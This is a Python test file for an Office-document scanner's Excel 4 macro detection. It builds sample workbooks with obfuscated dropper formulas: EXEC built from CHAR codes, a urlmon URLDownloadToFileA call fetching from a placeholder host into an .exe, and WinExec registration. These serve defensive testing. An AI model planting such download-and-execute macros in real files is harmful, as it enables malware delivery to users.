"""Excel 4 (XLM) macros: auto-run names and the calls of macro sheets, in .xls, .xlsm and .xlsb.

The oletools samples (an ``Auto_Open`` macro sheet in every Excel format) come from the shared
corpus; workbooks with droppers' formulas are built here, obfuscated as malware does it.
"""

from __future__ import annotations

import io
import struct
import zipfile

from edgeward.scanning.office_analysis import analyze
from edgeward.scanning.xlm import biff8_findings, formula_findings, unfold
from tests.scanning.office_samples import names, sample

TYPES = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
SHEET = (
    "<xm:macrosheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'"
    " xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'>"
    "<sheetData>{}</sheetData></xm:macrosheet>"
)
BOOK = "<workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><definedNames>{}</definedNames></workbook>"


def _cells(*formulas: str) -> str:
    rows = (f"<row r='{n}'><c r='A{n}'><f>{f}</f></c></row>" for n, f in enumerate(formulas, 1))
    return "".join(rows).replace("&", "&amp;").replace('"', "&quot;")


def xlsm(*formulas: str, names_: str = "<definedName name='Auto_Open2'>Macro1!$A$1</definedName>") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", TYPES)
        z.writestr("xl/workbook.xml", BOOK.format(names_))
        z.writestr("xl/macrosheets/sheet1.xml", SHEET.format(_cells(*formulas)))
    return buf.getvalue()


def _record(kind: int, body: bytes) -> bytes:
    size, out = len(body), bytearray([kind])
    while True:
        byte, size = size & 0x7F, size >> 7
        out.append(byte | (0x80 if size else 0))
        if not size:
            return bytes(out) + body


def xlsb_exec(command: str) -> bytes:
    """An .xlsb whose macro sheet holds =EXEC("command") as a BIFF12 BrtFmlaBool record."""
    text = command.encode("utf-16-le")
    rgce = b"\x17" + struct.pack("<H", len(command)) + text + b"\x22\x01" + struct.pack("<H", 0x006E)
    body = b"\x00" * 8 + b"\x00" + b"\x00\x00" + struct.pack("<I", len(rgce)) + rgce + b"\x00" * 4
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", TYPES)
        z.writestr(
            "xl/macrosheets/sheet1.bin", b"\x81\x01\x00" + _record(10, body)
        )  # BrtBeginSheet, then the cell
    return buf.getvalue()


def test_every_oletools_excel4_sample_is_an_auto_open_macro_sheet() -> None:
    samples = names("excel4-macros")
    assert len(samples) >= 6
    for name in samples:
        found = {f for f, _ in analyze(sample(name), name)}
        assert {"AV_XLM_MACRO", "AV_MACRO_AUTOEXEC"} <= found, name
    # The .xlsb sample keeps its Auto_Open name in a binary record that olevba does not read.
    assert ("AV_MACRO_AUTOEXEC", "xlm:Auto_Open") in analyze(sample("excel4-macros/excel4_sample_macro.xlsb"))


def test_the_sample_macros_call_nothing_dangerous() -> None:
    for name in names("excel4-macros"):
        assert not [s for f, s in analyze(sample(name), name) if f == "AV_MACRO_SUSPICIOUS"], name


def test_char_codes_and_concatenation_are_folded() -> None:
    assert unfold('=EXEC(CHAR(99)&CHAR(97)&"lc")') == '=EXEC("calc")'
    assert unfold('FORMULA(CHAR(61)&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67)&"(1)",A5)').startswith(
        'FORMULA("=EXEC(1)"'
    )
    # A fold that never ends in a fixed point stops at its bound.
    assert len(unfold('"a"&' * 50_000 + '"b"')) <= 8192


def test_droppers_formulas_in_an_xlsm_are_found_through_obfuscation() -> None:
    data = xlsm(
        'FORMULA(CHAR(61)&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67)&"(""calc"")",A5)',
        'CALL("urlmon","URLDown"&"loadToFileA","JJCCJJ",0,"http://x.example/a","c:\\a.exe",0,0)',
        'REGISTER("Kernel32","WinExec","JCJ","run",,1,9)',
        "HALT()",
    )
    found = set(analyze(data, "book.xlsm"))
    expected = {"xlm:EXEC", "xlm:CALL", "xlm:REGISTER", "xlm:URLDownloadToFile", "xlm:WinExec"}
    assert expected <= {s for f, s in found if f == "AV_MACRO_SUSPICIOUS"}
    assert ("AV_MACRO_AUTOEXEC", "xlm:Auto_Open") in found  # "Auto_Open2" runs like Auto_Open


def test_a_sheet_without_auto_names_is_a_macro_sheet_but_no_auto_run() -> None:
    found = {f for f, _ in analyze(xlsm("ALERT(1)", names_=""), "book.xlsm")}
    assert found == {"AV_XLM_MACRO"}


def test_formulas_of_ordinary_sheets_are_not_macros() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", TYPES)
        z.writestr("xl/worksheets/sheet1.xml", SHEET.format(_cells('EXEC("calc")')))
    assert analyze(buf.getvalue(), "book.xlsx") == []


def test_exec_in_a_binary_xlsb_macro_sheet_is_found() -> None:
    found = set(analyze(xlsb_exec("cmd /c calc"), "book.xlsb"))
    assert ("AV_MACRO_SUSPICIOUS", "xlm:EXEC") in found and "AV_XLM_MACRO" in {f for f, _ in found}


def test_xls_formulas_as_plugin_biff_prints_them() -> None:
    lines = [
        "0085     14 BOUNDSHEET : Sheet Information - Excel 4.0 macro sheet, visible -  Macro",
        "Sheet,Reference,Formula,Value",
        ' Macro,A1,EXEC(CHAR(99)&"md.exe"),""',
        ' Macro,A2,HALT(),""',
    ]
    assert list(biff8_findings(lines)) == [("AV_MACRO_SUSPICIOUS", "xlm:EXEC")]
    # A record line naming a call is olevba's listing, not a formula.
    assert list(biff8_findings(["0018     23 LABEL : EXEC( built-in-name"])) == []


def test_each_call_is_reported_once() -> None:
    assert list(formula_findings(['EXEC("a")', 'EXEC("b")'])) == [("AV_MACRO_SUSPICIOUS", "xlm:EXEC")]
